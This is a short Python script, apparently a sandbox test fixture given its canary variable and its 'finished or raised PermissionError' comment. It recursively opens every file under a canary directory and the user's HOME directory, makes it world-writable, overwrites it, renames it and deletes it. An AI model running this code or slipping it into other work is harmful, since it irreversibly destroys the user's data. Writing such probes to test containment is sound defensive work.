# finished or raised PermissionError
import os
import pathlib

for path in [*pathlib.Path(os.environ['CANARY']).rglob('*'), *pathlib.Path(os.environ['HOME']).rglob('*')]:
    if path.is_file():
        os.utime(path, (5, 5))
        os.chmod(path, 0o777)
        os.truncate(path, 1)
        path.write_bytes(b'gone')
        path.rename(path.with_suffix('.moved'))
        path.with_suffix('.moved').unlink()
